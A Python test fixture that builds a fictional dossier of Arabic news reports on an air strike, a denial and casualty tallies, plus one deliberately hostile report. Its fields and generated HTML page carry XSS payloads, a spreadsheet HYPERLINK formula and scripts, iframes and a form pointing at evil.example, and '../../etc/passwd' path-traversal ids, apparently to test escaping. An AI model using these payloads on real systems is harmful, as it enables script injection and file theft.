"""A small dossier of made-up reports: a copy, a denial, a tally, and a report whose every field tries to break out of the page."""

import hashlib
from datetime import UTC, date, datetime
from typing import Any

from riwaya.dossiers import Answer, Naming, questions, tally_questions
from riwaya.gazetteer import Outline
from riwaya.records import (
    Article,
    Claim,
    Contradiction,
    Doubt,
    Incident,
    Links,
    Origin,
    Outcome,
    Page,
    Place,
    Problem,
    Report,
    Run,
    Said,
    Source,
    Toll,
    Voice,
    When,
)

DAY = date(2018, 5, 11)
HOSTILE = "\"><script>alert('x')</script><img src=x onerror=alert(1)>"

STRIKE = "قتل أربعة مدنيين بينهم طفلان في غارة على البلدة، وفق المستشفى الميداني"
DENIAL = "نفى متحدث عسكري تنفيذ أي غارة على البلدة"
CLASH = "أعلنت الجماعة مقتل 26 عنصراً في اشتباك شرق البلدة"
TALLY = "ووثقت جهة رصد مقتل 54 مدنياً منذ بداية الشهر"


def places() -> tuple[Place, ...]:
    """The town, where the made-up gazetteer has it."""
    return (Place(text="البلدة", name="Al-Balda", country="SY", lat=33.46, lon=36.30, type="town", id="t1"),)


def claim(name: str, quote: str, event: str, *outcomes: Outcome, **more: Any) -> Claim:
    """A claim with the usual values for what does not matter."""
    values: dict[str, Any] = {
        "stance": "asserted", "sources": (), "actor": (), "target": (), "where": places(),
        "when": When(start=DAY, end=DAY), "scope": "incident",
    }  # fmt: skip
    return Claim(id=name, quote=quote, event=event, outcomes=outcomes, **{**values, **more})


def people(kind: str, low: int | None, high: int | None, group: str = "unspecified", **more: Any) -> Outcome:
    """A count of people."""
    return Outcome(kind=kind, unit="people", min=low, max=high, group=group, **more)


def reports() -> list[Report]:
    """Original, copy, denial with a tally, and the hostile one."""
    hospital = (Source(text="المستشفى الميداني", type="medical"),)
    strike = claim(
        "c1",
        STRIKE,
        "air_strike",
        people("killed", 4, 4, "civilians"),
        people("killed", 2, 2, "children", part_of=0),
        sources=hospital,
        target=("civilians",),
    )
    clash = claim(
        "c2",
        CLASH,
        "armed_clash",
        people("killed", 26, 26, "combatants", side="syria_government"),
        actor=("islamic_state",),
        why=("The verb states a count.",),
        rule="killed-in",
    )
    denial = claim(
        "c1",
        DENIAL,
        "air_strike",
        people("killed", 4, 4, "civilians"),
        stance="denied",
        sources=(Source(text="متحدث عسكري", type="party", actor="syria_government"),),
    )
    month = claim(
        "c2",
        TALLY,
        "toll",
        people("killed", 54, 54, "civilians"),
        scope="cumulative",
        when=When(start=date(2018, 5, 1), end=DAY),
        sources=(Source(text="جهة رصد", type="monitor"),),
    )
    first = Report(
        id="r1",
        published=DAY,
        title="غارة على البلدة",
        text=f"{STRIKE}. {CLASH}.",
        claims=(strike, clash),
        outlet="صحيفة المثال",
        page="p" + "1" * 12,
    )
    copy = Report(
        id="r2",
        published=DAY,
        title="غارة على البلدة",
        text=f"{STRIKE}.\n\nنقلاً عن صحيفة المثال.",
        claims=(strike,),
        outlet="موقع آخر",
        page="p" + "2" * 12,
    )
    other = Report(
        id="r3",
        published=date(2018, 5, 12),
        title="نفي",
        text=f"{DENIAL}. {TALLY}.",
        claims=(denial, month),
        outlet="إذاعة المثال",
        page="p" + "3" * 12,
    )
    return [first, copy, other, hostile()]


def hostile() -> Report:
    """Every word of it comes from outside and wants out."""
    wild = Place(text=HOSTILE, name='=HYPERLINK("http://evil.example")', lat=33.4712, lon=36.3171, id=HOSTILE)
    quote = f"قال {HOSTILE} إن {{0}} شيئاً وقع"
    broken = claim(
        'c"1/../..',
        quote,
        "explosive",
        people("killed", 1, None, among=HOSTILE),
        sources=(Source(text=HOSTILE, type="activists"),),
        where=(wild,),
        why=(HOSTILE,),
        rule=HOSTILE,
    )
    return Report(
        id="../../etc/passwd", published=DAY, title=HOSTILE, text=f"{quote}. {HOSTILE}", claims=(broken,), outlet=HOSTILE, page="../../p",
        address="javascript:alert(1)",
    )  # fmt: skip


def links() -> Links:
    """Three incidents; the copy adds no origin; the denial contradicts; one doubt."""
    strike = Incident(
        id="i1",
        event="air_strike",
        start=DAY,
        end=DAY,
        place="Al-Balda",
        claims=("r1:c1", "r2:c1", "r3:c1"),
        grade="contested",
        why=("Contested: held responsible: A by some, B by others", "r2:c1: same place (Al-Balda); same day"),
        said=(
            Said("graded", ("contested", Said("graded-contested", (("russia",), ("turkey",))))),
            Said("joined", ("r2:c1", (Said("same-place", ("Al-Balda",)), Said("same-day")))),
        ),
    )
    clash = Incident(id="i2", event="armed_clash", start=DAY, end=DAY, place="Al-Balda", claims=("r1:c2",))
    wild = Incident(
        id="../i3",
        event="explosive",
        start=DAY,
        end=DAY,
        place='=HYPERLINK("http://evil.example")',
        claims=('../../etc/passwd:c"1/../..',),
        grade="weak",
        why=(HOSTILE,),
    )
    return Links(
        incidents=(strike, clash, wild),
        origins=(
            Origin(origin="المستشفى الميداني", claims=("r1:c1", "r2:c1")),
            Origin(origin=HOSTILE, claims=('../../etc/passwd:c"1/../..',)),
        ),
        copies=(("r1", "r2"),),
        contradictions=(Contradiction(one="r1:c1", other="r3:c1", why="one denies what the other says", said=(Said("one-denies"),)),),
        doubts=(Doubt(what="incident", one="r1:c1", other="r1:c2", why="the same town on one day", said=Said("same-day")),),
    )


def toll(low: int, high: int | None, account: str) -> Toll:
    """A toll that one account proves, against another voice."""
    cited = Said("cited", (account, "المستشفى الميداني", ("Al-Balda",), ("2018-05-11", "2018-05-11")))
    rival = Said("cited", ("r3:c2/0", "جهة رصد", ("Al-Balda",), ("2018-05-01", "2018-05-11")))
    least = Said("bound-least", (low, Said("sum", ((Said("term", (Said("exactly", (low,)), cited)),),))))
    most = (
        Said("bound-open")
        if high is None
        else Said("bound-most", (high, Said("sum", ((Said("term", (Said("exactly", (high,)), rival)),),))))
    )
    counted = (Said("of-class", ((n, n, "killed", "people", "everyone", None),)) for n in (4, 54))
    clash = Said("clash-two", (tuple(Said("told", (one, who)) for one, who in zip(counted, (cited, rival), strict=True)),))
    voices = (
        Voice(account=account, origin="المستشفى الميداني", min=low, max=high, proof_min=(account,), said=(least, most)),
        Voice(account="r3:c2/0", origin="جهة رصد", min=0, max=high, said=(Said("bound-least-bare", (0,)), most)),
    )
    return Toll(
        min=low,
        max=high,
        voices=voices,
        proof_min=(account,),
        proof_max=(account,) if high is not None else (),
        clashes=((account, "r3:c2/0"),),
        why=("At least that.",),
        capped=True,
        said=(least, most, clash, Said("search-capped")),
    )


def page(report: Report) -> tuple[Page, Article, str]:
    """The report set in a page that wants to run, to load and to send; and its article with runs into it."""
    head = '<html onload="a()"><head><title>t</title><script>steal("</p>")</script><link rel=stylesheet href=http://evil.example/a.css><base href="//evil.example"></head><body>'
    frame = '<iframe src="//evil.example"></iframe><form action="//evil.example"><input value=x></form><a href="javascript:x()" onclick="x()">رابط</a><svg><script>1</script></svg>'
    title, text = report.title.replace("<", "&lt;"), report.text.replace("<", "&lt;").replace("\n\n", "</p><p>")
    html = f"{head}{frame}<h1>{title}</h1><p>{text}</p><img src=//evil.example/p.png onerror=x()><p>&copy; 2018 &amp; x"
    runs, at = [], html.index("<h1>") + 4
    for start, char in enumerate(f"{report.title}\n{report.text}"):
        if char == "\n":
            at = html.index("<p>", at) + 3 if html.find("<p>", at) >= 0 and html[at] == "<" else at
            continue
        width = 4 if html.startswith("&lt;", at) and char == "<" else 1
        runs.append(Run(start=start, end=start + 1, page_start=at, page_end=at + width))
        at += width
    content = html.encode()
    source = Page(
        id=report.page or "",
        address=report.address or "page.html",
        content=content,
        sha256=hashlib.sha256(content).hexdigest(),
        media="text/html",
        obtained=datetime(2026, 1, 2, 3, 4, tzinfo=UTC),
    )
    article = Article(
        id=report.id,
        page=source.id,
        address=source.address,
        title=report.title,
        text=report.text,
        language="ar",
        published=report.published,
        published_by="meta",
        outlet=report.outlet,
        encoding="utf-8",
        runs=tuple(runs),
    )
    return source, article, html


def material() -> dict[str, Any]:
    """All that `write` takes."""
    told = reports()
    linked = links()
    pages, articles, decoded = {}, {}, {}
    for report in told:
        source, article, html = page(report)
        if report.id != "r3":  # One report without article and page: it was handed in as text.
            pages[source.id], articles[report.id], decoded[source.id] = source, article, html
    answers = {
        i.id: [Answer(question=q, toll=toll(4, None if q.group else 26, f"{i.claims[0]}/0")) for q in questions(i, told)]
        for i in linked.incidents
    }
    square = ((35.5, 33.0), (36.9, 33.0), (36.9, 34.0), (35.5, 34.0), (35.5, 33.0))
    return {
        "reports": told, "links": linked, "articles": articles, "pages": pages, "decoded": decoded, "tolls": answers,
        "tallies": [Answer(question=q, toll=toll(54, 54, "r3:c2/0")) for q in tally_questions(told)],
        "superseded": {"r1:c2/0": "r3:c2/0"},
        "outlines": (Outline(id="X1", name="Square <b>", arabic="المربع", level=1, box=(35.5, 33.0, 36.9, 34.0), rings=(square,)),),
        "place_names": {"t1": Naming(ar="البلدة", en="Al-Balda")},
        "problems": (Problem(stage="pages", where=HOSTILE, what="no page", todo="leave it out"),),
        "versions": {"riwaya": "0.1.0"}, "written": datetime(2026, 1, 2, tzinfo=UTC), "constructed": True,
    }  # fmt: skip
